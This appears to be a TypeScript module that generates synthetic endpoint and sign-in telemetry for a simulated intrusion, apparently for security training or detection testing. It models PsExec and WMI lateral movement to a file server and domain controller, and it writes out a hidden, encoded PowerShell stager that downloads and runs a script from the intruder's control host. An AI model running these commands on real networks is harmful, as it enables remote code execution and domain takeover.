import type { Alert } from './alerts';
import type { Device } from './devices';
import type { FileOnDisk, Process } from './ledger';
import { program } from './programs';
import { domainLogon } from './signIns';
import { encoded, INTRUDER, type Scene, TOOLS } from './storyCast';

const SECOND = 1_000;
const MINUTE = 60 * SECOND;
const SYSTEM = 1;

/** With the administrator's password the intruder reaches the file server by PsExec and the domain controller by WMI. */
export function moveOn(scene: Scene, shell: Process): Alert[] {
  const at = scene.begins + 190 * MINUTE;
  const commandLine = reachFileServer(scene, shell, at);
  reachDomainController(scene, shell, at + 22 * MINUTE);
  return [suspectedMovement(scene, at + 6 * MINUTE, commandLine)];
}

/** Three wrong guesses, then the right password and PsExec. Returns its command line. */
function reachFileServer(scene: Scene, shell: Process, at: number): string {
  const { ledger, random, machine, victim, admin, fileServer } = scene;
  for (let guess = 0; guess < 3; guess++) {
    signInAsAdmin(scene, fileServer, { at: at + guess * 9 * SECOND, fails: true });
  }
  const server = fileServer.name.split('.')[0]!;
  const commandLine = `${TOOLS}\\PsExec64.exe -accepteula \\\\${server} -u brightharbor\\${admin.name} -s cmd.exe`;
  const run = { at: at + MINUTE, parent: shell, account: victim.id, commandLine };
  const sender = ledger.start(machine, 'psexec64.exe', run);
  ledger.connect(sender, { at: at + 61 * SECOND, ip: fileServer.ip, port: 445, localPort: random.int(49_152, 65_535) });
  signInAsAdmin(scene, fileServer, { at: at + 61.2 * SECOND });
  takeOver(scene, at + 62 * SECOND);
  return commandLine;
}

function reachDomainController(scene: Scene, shell: Process, at: number): void {
  const { ledger, random, machine, victim, admin, domainController } = scene;
  const server = domainController.name.split('.')[0]!;
  const download = `IEX (New-Object Net.WebClient).DownloadString('https://${INTRUDER.control.url}/b.ps1')`;
  const stager = `powershell.exe -nop -w hidden -enc ${encoded(download)}`;
  const call = `wmic /node:${server} /user:brightharbor\\${admin.name} process call create "${stager}"`;
  const wmic = ledger.start(machine, 'wmic.exe', { at, parent: shell, account: victim.id, commandLine: call });
  ledger.connect(wmic, { at: at + 300, ip: domainController.ip, port: 135, localPort: random.int(49_152, 65_535) });
  signInAsAdmin(scene, domainController, { at: at + 500 });
  const host = ledger.start(domainController, 'wmiprvse.exe', {
    at: at + 700,
    parent: scene.running(domainController, 'svchost.exe'),
    account: SYSTEM,
    commandLine: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
  });
  const run = { at: at + 1_100, parent: host, account: admin.id, commandLine: stager };
  const remote = ledger.start(domainController, 'powershell.exe', run);
  const list = { at: at + 40 * SECOND, parent: remote, account: admin.id, commandLine: 'nltest /dclist:brightharbor' };
  ledger.start(domainController, 'nltest.exe', list);
}

/** A sign-in from the victim's machine, as the server and as the domain's sensor saw it. */
function signInAsAdmin(scene: Scene, server: Device, { at, fails = false }: { at: number; fails?: boolean }): void {
  const { ledger, office, random, machine, admin } = scene;
  ledger.logon(scene.running(server, 'lsass.exe'), {
    at,
    account: admin.id,
    kind: 'Network',
    from: machine,
    protocol: 'NTLM',
    isAdmin: !fails,
    failure: fails ? 'InvalidUserNameOrPassword' : '',
  });
  const target = server.name.split('.')[0]!;
  domainLogon(office, { at, person: admin, device: machine, target, failure: fails ? 'WrongPassword' : '' }, random);
}

/** On the file server: the PsExec service, a shell and a look at the shares. */
function takeOver(scene: Scene, at: number): void {
  const { ledger, fileServer } = scene;
  const services = scene.running(fileServer, 'services.exe');
  const tool = program('windows', 'psexesvc.exe');
  const file: FileOnDisk = { ...tool, content: `${tool.name} ${tool.version}` };
  ledger.change(services, { at, action: 'FileCreated', file });
  ledger.event(services, {
    at: at + 300,
    action: 'ServiceInstalled',
    file,
    details: { ServiceName: 'PSEXESVC', ServiceAccount: 'LocalSystem', ServiceStartType: 3 },
  });
  ledger.register(services, {
    at: at + 350,
    key: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\PSEXESVC',
    name: 'ImagePath',
    data: '%SystemRoot%\\PSEXESVC.exe',
  });
  const service = ledger.start(fileServer, 'psexesvc.exe', {
    at: at + 700,
    parent: services,
    account: SYSTEM,
    commandLine: 'C:\\Windows\\PSEXESVC.exe',
  });
  const shell = ledger.start(fileServer, 'cmd.exe', {
    at: at + 1_200,
    parent: service,
    account: SYSTEM,
    commandLine: 'cmd.exe',
  });
  ledger.start(fileServer, 'whoami.exe', {
    at: at + 20 * SECOND,
    parent: shell,
    account: SYSTEM,
    commandLine: 'whoami',
  });
  ledger.start(fileServer, 'net.exe', {
    at: at + 41 * SECOND,
    parent: shell,
    account: SYSTEM,
    commandLine: 'net share',
  });
}

function suspectedMovement({ machine, fileServer, admin }: Scene, at: number, commandLine: string): Alert {
  const tool = program('windows', 'psexec64.exe');
  return {
    at,
    title: 'Suspected lateral movement using PsExec',
    category: 'LateralMovement',
    severity: 'High',
    source: 'Microsoft Defender for Endpoint',
    detection: 'EDR',
    techniques: ['SMB/Windows Admin Shares (T1021.002)', 'Service Execution (T1569.002)'],
    evidence: [
      { kind: 'Machine', device: machine },
      { kind: 'Machine', device: fileServer },
      { kind: 'User', person: admin },
      { kind: 'Process', device: machine, file: { ...tool, content: `${tool.name} ${tool.version}` }, commandLine },
    ],
  };
}
